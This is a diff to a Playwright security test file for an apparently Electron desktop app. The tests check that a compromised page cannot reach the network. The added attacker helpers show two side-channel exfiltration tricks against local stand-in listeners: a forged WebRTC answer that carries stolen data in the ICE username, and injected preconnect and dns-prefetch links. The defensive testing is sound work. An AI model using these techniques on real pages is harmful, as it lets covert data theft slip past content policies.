@@ -1,10 +1,15 @@
 // oxlint-disable typescript/no-implied-eval, eslint/no-eval -- what is proved here is that the page can't
+import { createSocket } from 'node:dgram';
+import { rm } from 'node:fs/promises';
 import { createServer } from 'node:http';
+import { createServer as createTcpServer } from 'node:net';
 import type { AddressInfo } from 'node:net';
+import { chromium } from '@playwright/test';
 import type { Page } from '@playwright/test';
 import type { Bridge } from '../../electron/contract/bridge.ts';
 import { expect, test as base } from '../fixtures.ts';
 import { inPage } from '../hosts.ts';
+import { findChromium } from '../stand-in/chromium/find-chromium.ts';
 
 declare const slipway: Bridge;
 
@@ -16,7 +21,22 @@ interface Outside {
 }
 
 /** The page has been taken over: what runs below is the attacker's script. It wants out to `outside`. */
-const test = base.extend<{ outside: Outside; opened: () => Promise<string[]> }>({
+const test = base.extend<{
+  outside: Outside;
+  opened: () => Promise<string[]>;
+  fromApp: Peer;
+  fromBrowser: Peer;
+}>({
+  fromApp: async ({}, use) => {
+    const peer = await listenForCalls();
+    await use(peer);
+    peer.close();
+  },
+  fromBrowser: async ({}, use) => {
+    const peer = await listenForCalls();
+    await use(peer);
+    peer.close();
+  },
   outside: async ({}, use) => {
     const hits: string[] = [];
     const server = createServer((request, response) => {
@@ -384,4 +404,103 @@ test('nothing is permitted that a page could ask the person for', async ({ page 
     return Promise.all(names.map(stateOf));
   });
   expect(new Set(outcome)).toEqual(new Set(['denied']));
+});
+
+/** Who listens on this computer for what no policy of a document covers; each entry is one packet or connection. */
+async function listenForCalls(): Promise<Peer> {
+  const arrived: string[] = [];
+  const udp = createSocket('udp4').on('message', () => void arrived.push('packet'));
+  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+  const tcp = createTcpServer((socket) => {
+    arrived.push('connection');
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
+  return {
+    ports: { udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port },
+    arrived,
+    close() {
+      udp.close();
+      tcp.close();
+    },
+  };
+}
+
+interface Peer {
+  ports: { udp: number; tcp: number };
+  arrived: string[];
+  close(): void;
+}
+
+/** In the page: calls a peer that was described to it, over UDP and TCP. What is stolen would travel as the peer's name. */
+async function callPeer({ udp, tcp }: Peer['ports']): Promise<void> {
+  const connection = new RTCPeerConnection();
+  connection.createDataChannel('out');
+  const offer = await connection.createOffer();
+  const answer = [
+    'v=0',
+    'o=- 1 2 IN IP4 127.0.0.1',
+    's=-',
+    't=0 0',
+    'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
+    'c=IN IP4 0.0.0.0',
+    `a=candidate:1 1 udp 2113937151 127.0.0.1 ${udp} typ host`,
+    `a=candidate:2 1 tcp 1518280447 127.0.0.1 ${tcp} typ host tcptype passive`,
+    'a=ice-ufrag:nameanddriveid',
+    'a=ice-pwd:0123456789012345678901',
+    `a=fingerprint:sha-256 ${Array.from({ length: 32 }, () => 'AB').join(':')}`,
+    'a=setup:active',
+    'a=mid:0',
+    'a=sctp-port:5000',
+    '',
+  ].join('\r\n');
+  const gathered = new Promise<void>((resolve) => {
+    connection.addEventListener('icegatheringstatechange', () => {
+      if (connection.iceGatheringState === 'complete') resolve();
+    });
+  });
+  await connection.setLocalDescription(offer);
+  await connection.setRemoteDescription({ type: 'answer', sdp: answer });
+  await gathered;
+}
+
+/** In the page: asks for connections and addresses that a later request might use. */
+function connectEarly({ tcp }: Peer['ports']): void {
+  for (const rel of ['preconnect', 'dns-prefetch']) {
+    for (const scheme of ['http', 'https']) {
+      const href = `${scheme}://127.0.0.1:${tcp}/`;
+      document.head.append(Object.assign(document.createElement('link'), { rel, href }));
+    }
+  }
+}
+
+test.describe('what no policy of a document covers', () => {
+  // Chromium connects early in its own context only, not in one that it lends.
+  test.use({ isolation: 'ownChromium' });
+
+  for (const { name, attack } of [
+    { name: 'a call to a described peer sends no packet', attack: callPeer },
+    { name: 'no connection is made early', attack: connectEarly },
+  ])
+    test(name, async ({ app, page, outside, profile, fromApp, fromBrowser }) => {
+      await page.evaluate<unknown, Peer['ports']>(attack, fromApp.ports);
+      await expectUnmoved(page);
+
+      // The same in a browser, where it goes through: so long the app's page had time for it.
+      const executablePath = findChromium() ?? '';
+      const args = ['--no-sandbox', '--disable-features=LocalNetworkAccessChecks'];
+      const browser = await chromium.launchPersistentContext(`${profile}-browser`, { executablePath, args });
+      const visitor = await browser.newPage();
+      await visitor.goto(outside.url);
+      await visitor.evaluate<unknown, Peer['ports']>(attack, fromBrowser.ports);
+      await expect.poll(() => fromBrowser.arrived).not.toEqual([]);
+      await browser.close();
+      await rm(`${profile}-browser`, { recursive: true, force: true, maxRetries: 5 });
+
+      expect(fromApp.arrived).toEqual([]);
+      const policies = await app.evaluate(({ webContents }) =>
+        webContents.getAllWebContents().map((contents) => contents.getWebRTCIPHandlingPolicy()),
+      );
+      expect(policies).toEqual(['disable_non_proxied_udp']);
+    });
 });
